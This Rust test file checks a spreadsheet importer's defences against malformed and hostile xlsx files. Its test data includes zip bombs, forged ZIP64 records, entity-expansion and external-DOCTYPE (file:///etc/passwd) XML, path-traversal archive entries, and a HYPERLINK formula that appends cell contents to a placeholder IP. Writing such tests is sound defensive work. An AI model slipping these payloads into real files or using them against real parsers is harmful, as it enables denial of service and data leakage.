//! Workbooks.

use super::container::{Book, Entry, closed, find, header, overlapping, row, zip};
use super::{Range, case};

const SHEET: &str = "xl/worksheets/sheet1.xml";

fn rows_of_numbers(count: usize) -> String {
    let rows = (0..count).map(|number| format!("<row><c><v>{number}</v></c></row>"));
    header() + &rows.collect::<String>()
}

#[test]
fn containers_that_inflate_without_end_are_refused() {
    let bomb = "<row/>".repeat(8 << 20);
    let even = Book::new(&(header() + &bomb), "").bytes();
    let lying = {
        let mut entries = Book::good().entries();
        let sheet = entries
            .iter_mut()
            .find(|entry| entry.name == SHEET)
            .unwrap();
        *sheet = Entry::deflated(SHEET, bomb.as_bytes());
        sheet.size = 1_000;
        zip(&entries)
    };
    let large = (0..5 << 20).map(|number| format!("<c><v>{number}</v></c>"));
    let large = Book::new(
        &(header() + "<row>" + &large.collect::<String>() + "</row>"),
        "",
    )
    .bytes();
    let piece = (0..6 << 20)
        .map(|number| format!("{number:x} "))
        .collect::<String>();
    let piece = Entry::deflated("0000/media.txt", piece.as_bytes());
    let many = {
        let mut entries = Book::good().entries();
        entries.extend((0..10_001).map(|number| Entry::new(&format!("xl/media/{number}"), b"")));
        zip(&entries)
    };
    Range::new().refuses_all(vec![
        case("bomb.xlsx", even, &["sheet1.xml", "more than 200 times"]),
        case("lying.xlsx", lying, &["workbook"]),
        case("large.xlsx", large, &["sheet1.xml", "more than 64 MiB"]),
        case(
            "overlapping.xlsx",
            overlapping(&Book::good().entries(), &piece, 20),
            &["parts inflate to more than 256 MiB"],
        ),
        case("many.xlsx", many, &["parts, more than 10000"]),
        case(
            "nested.xlsx",
            zip(&[Entry::new(
                "inner.zip",
                &zip(&[Entry::deflated("bomb", bomb.as_bytes())]),
            )]),
            &["zip archive but no workbook"],
        ),
    ]);
}

#[test]
fn containers_that_lie_about_themselves_are_refused() {
    let good = Book::good().bytes();
    let end = find(&good, b"PK\x05\x06");
    // A 64-bit end with sizes beyond everything, and its locator.
    let huge = {
        let mut bytes = good[..end].to_vec();
        let at = bytes.len() as u64;
        bytes.extend(b"PK\x06\x06");
        bytes.extend(44_u64.to_le_bytes());
        bytes.extend([45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        for value in [u64::MAX - 1, u64::MAX - 1, 1 << 62, 1 << 61] {
            bytes.extend(value.to_le_bytes());
        }
        bytes.extend(b"PK\x06\x07\0\0\0\0");
        bytes.extend(at.to_le_bytes());
        bytes.extend(1_u32.to_le_bytes());
        bytes.extend(b"PK\x05\x06\0\0\0\0");
        bytes.extend([0xff; 12]);
        bytes.extend([0, 0]);
        bytes
    };
    let countless = {
        let mut bytes = good.clone();
        bytes[end + 8..end + 12].copy_from_slice(&[0xfe, 0xff, 0xfe, 0xff]);
        bytes
    };
    let elsewhere = {
        let mut bytes = good.clone();
        bytes[end + 16..end + 20].copy_from_slice(&0x7fff_0000_u32.to_le_bytes());
        bytes
    };
    let damaged = &["damaged"];
    Range::new().refuses_all(vec![
        case("zip64.xlsx", huge, damaged),
        case("countless.xlsx", countless, damaged),
        case("elsewhere.xlsx", elsewhere, damaged),
        case("truncated.xlsx", &good[..good.len() / 2], damaged),
        case("signature.xlsx", &good[..4], damaged),
        case("empty.xlsx", closed(Vec::new(), &[], 0), &["no workbook"]),
    ]);
}

#[test]
fn sheets_beyond_all_measure_are_refused() {
    let cell = |reference: &str| format!("<c r=\"{reference}\"><v>1</v></c>");
    let corners = format!(
        "<row r=\"1\">{}</row><row r=\"1048576\">{}</row>",
        cell("A1"),
        cell("XFD1048576")
    );
    let wide = (0..10_000).map(|number| format!("<c t=\"str\"><v>h{number}</v></c>"));
    let wide = format!("<row>{}</row>", wide.collect::<String>());
    let text = format!("<si><t>{}</t></si>", "x".repeat(100_000));
    let texts = "<row><c t=\"s\"><v>0</v></c></row>".repeat(20_000);
    let attributes = (0..60_000).map(|number| format!(" a{number}=\"\""));
    let tag = format!("<row{}/>", attributes.collect::<String>());
    Range::new().refuses_all(vec![
        case(
            "corners.xlsx",
            Book::new(&corners, "").bytes(),
            &["no question column"],
        ),
        case(
            "wide.xlsx",
            Book::new(&wide, "").bytes(),
            &["more than 256 columns in use"],
        ),
        case(
            "long.xlsx",
            Book::new(&rows_of_numbers(800_000), "").stored(),
            &["more than 208 MiB of memory"],
        ),
        case(
            "cells.xlsx",
            Book::new(
                &(header() + "<row>" + &"<c r=\"A2\"><v>1</v></c>".repeat(1_000) + "</row>"),
                "",
            )
            .bytes(),
            &["row 2 in sheet \"FAQ\" has more than 256 cells"],
        ),
        case(
            "one-text.xlsx",
            Book::new(&(header() + &texts), &text).stored(),
            &["more than 256 MiB of text"],
        ),
        case(
            "attributes.xlsx",
            Book::new(&tag.repeat(20), "").stored(),
            &["nothing in sheet \"FAQ\""],
        ),
        case(
            "tag.xlsx",
            Book::new(&format!("<row a=\"{}\"/>", "x".repeat(2 << 20)), "").stored(),
            &["tag or text of more than 1 MiB"],
        ),
    ]);
}

#[test]
fn parts_that_ask_for_too_much_are_refused() {
    let sheets =
        (2..5_000).map(|n| format!("<sheet name=\"s{n}\" sheetId=\"{n}\" r:id=\"rId1\"/>"));
    let sheets = sheets.collect::<String>() + "</sheets>";
    let laughs = "<!DOCTYPE sst [<!ENTITY a \"xxxxxxxxxx\"><!ENTITY b \"&a;&a;&a;&a;\">]><sst><si><t>&b;</t></si></sst>";
    let styles = format!(
        "<styleSheet><fonts><font><name val=\"{}\"/></font></fonts><cellXfs>{}</cellXfs></styleSheet>",
        "n".repeat(100_000),
        "<xf fontId=\"0\" xfId=\"0\"/>".repeat(60_000)
    );
    Range::new().refuses_all(vec![
        case(
            "laughs.xlsx",
            Book::good().with("xl/sharedStrings.xml", laughs).bytes(),
            &["sharedstrings.xml", "holds a DOCTYPE"],
        ),
        case(
            "external.xlsx",
            Book::good()
                .with(
                    SHEET,
                    "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><worksheet/>",
                )
                .bytes(),
            &["sheet1.xml", "holds a DOCTYPE"],
        ),
        case(
            "declared.xlsx",
            Book::good()
                .with(
                    "xl/sharedStrings.xml",
                    "<sst uniqueCount=\"99999999999\"></sst>",
                )
                .bytes(),
            &["declares 99999999999 texts, more than 1048576"],
        ),
        case(
            "texts.xlsx",
            Book::new(&header(), &"<si/>".repeat(1_100_000)).stored(),
            &["more than 1048576 texts"],
        ),
        case(
            "styles.xlsx",
            Book::good().with("xl/styles.xml", styles).stored(),
            &["styles that take more than 96 MiB"],
        ),
        case(
            "shared-part.xlsx",
            Book::new(&"<row/>".repeat(600_000), "")
                .replaced("xl/workbook.xml", "</sheets>", &sheets)
                .stored(),
            &["read more than 2 times over"],
        ),
        case(
            "names.xlsx",
            Book::good()
                .replaced(
                    "xl/workbook.xml",
                    "</sheets>",
                    &("</sheets>".to_owned() + &"<definedName name=\"x\"/>".repeat(400_000)),
                )
                .stored(),
            &["more than 300000 tags"],
        ),
        case(
            "other-workbook.xlsx",
            Book::good()
                .replaced("_rels/.rels", "xl/workbook.xml", SHEET)
                .bytes(),
            &["names another part as its workbook"],
        ),
        case(
            "index.xlsx",
            Book::new(
                &(header() + "<row><c t=\"s\"><v>4294967295</v></c></row>"),
                "<si><t>x</t></si>",
            )
            .bytes(),
            &["damaged"],
        ),
        case(
            "reference.xlsx",
            Book::new(
                &(header() + "<row><c r=\"AAAAAAAAAAAA2\"><v>1</v></c></row>"),
                "",
            )
            .bytes(),
            &["damaged"],
        ),
        case("encrypted.xlsx", encrypted(), &["protected by a password"]),
    ]);
}

/// An encrypted workbook, as far as anybody without the password sees it.
fn encrypted() -> Vec<u8> {
    let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    bytes.resize(1024, 0);
    bytes.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

/// Odd, and no reason to refuse the rows: nothing is fetched, nothing is unpacked to a disk, nothing runs in circles.
#[test]
fn what_only_looks_dangerous_is_read() {
    let range = Range::new();
    let link = "<externalLink><externalBook r:id=\"rId1\"/></externalLink>";
    let target = "<Relationships><Relationship Id=\"rId1\" TargetMode=\"External\" Target=\"file:///etc/passwd\"/></Relationships>";
    let linked = Book::good()
        .with("xl/externalLinks/externalLink1.xml", link)
        .with("xl/externalLinks/_rels/externalLink1.xml.rels", target);
    let circles = "<styleSheet><cellStyleXfs><xf xfId=\"0\"/></cellStyleXfs><cellXfs><xf xfId=\"1\" fontId=\"9\"/><xf xfId=\"0\"/></cellXfs></styleSheet>";
    let climbing = Book::good()
        .with("../../climbed.txt", "x")
        .with("/tmp/climbed.txt", "x")
        .with("xl/media/..\\..\\climbed.txt", "x");
    let twice = {
        let mut entries = Book::good().entries();
        entries.push(Entry::deflated(SHEET, row("Тема").as_bytes()));
        entries.rotate_right(1);
        zip(&entries)
    };
    let behind = {
        let mut bytes = Book::new(&row("Тема"), "").bytes();
        let shift = bytes.len();
        bytes.extend(Book::good().bytes());
        let end = find(&bytes, b"PK\x05\x06");
        assert!(end > shift);
        bytes
    };
    let formula =
        "<row><c t=\"str\"><f>HYPERLINK(\"http://192.0.2.1/\"&amp;A1)</f><v>q</v></c></row>";
    for (file, bytes) in [
        ("linked.xlsx", linked.bytes()),
        (
            "circles.xlsx",
            Book::good().with("xl/styles.xml", circles).bytes(),
        ),
        ("climbing.xlsx", climbing.bytes()),
        ("twice.xlsx", twice),
        ("behind.xlsx", behind),
        ("formula.xlsx", Book::new(&(header() + formula), "").bytes()),
    ] {
        range.takes(case(file, bytes, &[]));
    }
    assert!(!range.place.home("climbed.txt").exists());
}

#[test]
fn a_cell_that_is_too_long_costs_its_row_only() {
    let long = header() + &row(&"я".repeat(40_000)) + &row("q");
    Range::new().takes(case(
        "long-cell.xlsx",
        Book::new(&long, "").bytes(),
        &["row 2", "40000 characters, more than 32767"],
    ));
}
